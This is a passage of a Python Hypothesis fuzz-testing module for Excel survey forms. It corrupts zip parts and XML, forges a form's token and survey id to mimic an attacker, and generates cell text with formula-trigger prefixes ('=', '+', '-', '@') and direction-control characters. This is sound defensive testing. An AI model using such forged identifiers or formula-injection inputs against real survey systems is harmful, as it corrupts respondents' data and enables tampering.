        return kind, xml[: match.end()] + match[0] * copies + xml[match.end() :]
    attribute = draw(
        st.sampled_from(['s="999"', 's="-1"', 'spans="x"', 'ht="1e400"', 'xml:space="q"'])
    )
    return kind, _sub_nth(_CELL_OPEN, xml, n, lambda m: f"<c{m[1]} {attribute}{m[2]}>")


@st.composite
def package_mutation(draw: st.DrawFn, data: bytes) -> tuple[str, bytes]:
    """Parts of the workbook dropped, swapped, renamed or changed inside."""
    parts = parts_of(data)
    names = sorted(parts)
    kind = draw(st.sampled_from(["xml", "xml", "xml", "drop", "swap", "rename", "duplicate"]))
    name = draw(st.sampled_from(names))
    if kind == "drop":
        return f"drop {name}", replace_parts(data, {name: None})
    if kind == "swap":
        other = draw(st.sampled_from(names))
        return f"swap {name} {other}", replace_parts(data, {name: parts[other], other: parts[name]})
    if kind == "rename":
        new_name = draw(
            st.sampled_from(["xl/Workbook.xml", "xl/worksheets/sheet9.xml", "/" + name])
        )
        return f"rename {name}", replace_parts(data, {name: None, new_name: parts[name]})
    if kind == "duplicate":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, value in parts.items():
                archive.writestr(part, value)
            archive.writestr(name, draw(st.binary(max_size=200)))
        return f"duplicate {name}", buffer.getvalue()
    xml_parts = [n for n in names if n.endswith((".xml", ".rels"))]
    name = draw(st.sampled_from(xml_parts))
    text = parts[name].decode("utf-8", "replace")
    what, changed = draw(xml_mutation(text))
    return f"{what} in {name}", replace_parts(data, {name: changed})


_ZIP_ERRORS = (
    zipfile.BadZipFile,
    zlib.error,
    EOFError,
    OSError,
    ValueError,
    RuntimeError,
    struct.error,
)


def unpacks(data: bytes) -> bool:
    """Whether ``data`` is a zip whose every part unpacks."""
    try:
        parts_of(data)
    except _ZIP_ERRORS:
        return False
    return True


def mutations(data: bytes) -> st.SearchStrategy[tuple[str, bytes]]:
    """One to three mutations of ``data``, described."""

    @st.composite
    def stacked(draw: st.DrawFn) -> tuple[str, bytes]:
        described, current = [], data
        for _ in range(draw(st.integers(1, 3))):
            if not unpacks(current):
                break  # no longer a whole zip: only bytes can change now, and they did
            what, current = draw(st.one_of(byte_mutation(current), package_mutation(current)))
            described.append(what)
        return "; ".join(described), current

    return stacked()


def reidentified(form: bytes, token: str, survey_id: int, new_token: str, new_id: Any) -> bytes:
    """A survey form whose token and survey id (in the hidden sheet, the
    custom properties and the printed reference) are replaced, as a
    respondent's copy-and-paste or an attacker might."""
    token_xml = escape(excel_escape(new_token))
    id_text = escape(excel_escape(str(new_id)))
    id_cell = (
        f'<c r="B1"><v>{new_id!r}</v></c>'
        if isinstance(new_id, int | float) and not isinstance(new_id, bool)
        else f'<c r="B1" t="inlineStr"><is><t>{id_text}</t></is></c>'
    )
    changes: dict[str, bytes | str | None] = {}
    for name, data in parts_of(form).items():
        if not name.endswith(".xml"):
            continue
        xml = data.decode()
        changed = xml.replace(
            f"{REFERENCE}{survey_id}-{token}", f"{REFERENCE}{id_text}-{token_xml}"
        )
        changed = changed.replace(f">{token}<", f">{token_xml}<")
        changed = changed.replace(
            f"<vt:lpwstr>{survey_id}</vt:lpwstr>", f"<vt:lpwstr>{id_text}</vt:lpwstr>"
        )
        changed = (
            re.sub(r'<c r="B1" t="n"><v>\d+</v></c>', id_cell, changed)
            if ">survey_id<" in xml
            else changed
        )
        if changed != xml:
            changes[name] = changed
    return replace_parts(form, changes)


REFERENCE = "Form reference: "


# -- what people type --------------------------------------------------------------------

CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F)
DIRECTION_MARKS = st.sampled_from(
    "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u200b"
)
COMBINING = st.characters(min_codepoint=0x300, max_codepoint=0x36F)
CJK = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
SCRIPTS = st.sampled_from("AaZzÉéßØøŁłİıĞğ ŠšЖжΣσاعربيעבריתไทยगणेश한국어日本語ー・-'. ")
ANY = st.characters(codec="utf-8", exclude_categories=("Cs",))


def cell_text(max_size: int = 30) -> st.SearchStrategy[str]:
    """Text as people type it, and as they should not."""
    alphabet = st.one_of(SCRIPTS, CJK, DIRECTION_MARKS, COMBINING, CONTROL, ANY)
    return st.one_of(
        st.text(alphabet, max_size=max_size),
        st.builds(
            lambda p, t: p + t, st.sampled_from("=+-@\t\r\n "), st.text(alphabet, max_size=10)
        ),
        st.builds(
            lambda t, n: (t or "x") * n, st.text(alphabet, max_size=3), st.integers(1_000, 40_000)
        ),
    )


def names(max_size: int = 20) -> st.SearchStrategy[str]:
    """Names that a list may well hold: scripts, marks, CJK, no control characters."""
    alphabet = st.one_of(SCRIPTS, CJK, DIRECTION_MARKS, COMBINING)
    return st.text(alphabet, min_size=1, max_size=max_size).filter(lambda t: t.strip())


def not_text() -> st.SearchStrategy[Any]:
    """Numbers, dates and booleans where text is expected."""
    return st.one_of(
        st.booleans(),
        st.integers(-(10**20), 10**20),
        st.floats(allow_nan=False, allow_infinity=False, width=64),
        st.dates(date(1900, 3, 1), date(2100, 1, 1)),
        st.datetimes(datetime(1900, 3, 1), datetime(2100, 1, 1)).map(
            lambda d: d.replace(microsecond=0)
        ),
    )


def cell_values() -> st.SearchStrategy[Any]:
    return st.one_of(names(), cell_text(), not_text(), st.none())
